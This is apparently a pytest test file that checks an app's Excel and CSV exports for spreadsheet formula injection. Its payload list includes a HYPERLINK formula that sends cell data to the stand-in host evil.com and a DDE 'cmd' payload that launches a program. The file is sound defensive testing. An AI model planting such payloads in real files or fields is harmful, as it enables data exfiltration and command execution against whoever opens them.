"""Every Excel and CSV download of the app is formula-free when the data's texts are
formulas (issue 14, item 3): names, titles, motivations and directives starting with =, +,
-, @ go through the real table builders and `ils.xlsx`."""

from __future__ import annotations

import csv
import dataclasses
import io
import re

import openpyxl
import polars as pl
import pytest

from tests.conftest import load_sqlite

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "=cmd|' /C calc'!A0", "+1",
            "-2", "@SUM(A1)"]
TEXT_COLUMNS = {"organisation": ["name"], "goals": ["title"], "indicators": ["name", "unit"],
                "assessments": ["motivation"], "activities": ["name"], "directives": ["text"]}
ARGS = {"ar": "2022", "period": "VB", "org_id": "norrby", "goal_id": "vom11",
        "indicator_id": "ind-las"}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(,\d+)?(e-?\d+)?$")


def hostile_city():
    from tests.fixture_city import city

    ds = city()
    changes = {}
    for name, cols in TEXT_COLUMNS.items():
        frame = getattr(ds, name)
        n = frame.height
        payload = pl.Series([PAYLOADS[i % len(PAYLOADS)] for i in range(n)], dtype=pl.String)
        changes[name] = frame.with_columns([(payload + " " + pl.col(c).fill_null("x")).alias(c)
                                            for c in cols if c in frame.columns])
    return dataclasses.replace(ds, **changes)


@pytest.fixture
def hostile_db(tmp_path, monkeypatch):
    url = load_sqlite(tmp_path, hostile_city(), {"demo": "1"})
    monkeypatch.setenv("KONTROLLRUM_DB", url)
    import app  # noqa: F401  (registers every page's tables)

    return url


def test_no_download_holds_a_formula(hostile_db):
    from pagekit.downloads import REGISTRY, file_bytes

    files = with_payload = 0
    for page, name in sorted(REGISTRY):
        for fmt in ("xlsx", "csv"):
            got = file_bytes(page, name, dict(ARGS), fmt)
            if got is None:
                continue
            files += 1
            texts = _xlsx_texts(got[0]) if fmt == "xlsx" else _csv_texts(got[0])
            with_payload += any("HYPERLINK" in t or "calc" in t for t in texts)
    assert files >= 2 * 20  # nearly every table gave both files
    assert with_payload >= 10  # and the hostile texts were in many of them


def _xlsx_texts(data: bytes) -> list[str]:
    texts = []
    for ws in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type in ("s", "n", "d", "b"), (ws.title, cell.coordinate,
                                                                cell.value)
                assert cell.hyperlink is None or not str(cell.value).startswith("=")
                if cell.data_type == "s":
                    texts.append(cell.value)
    return texts


def _csv_texts(data: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    cells = [c for r in rows for c in r]
    # a number column writes "-1" or "-0,5": that is a number, not text
    assert not [c for c in cells if c.startswith(FORMULA_START) and not NUMBER.match(c)]
    return cells
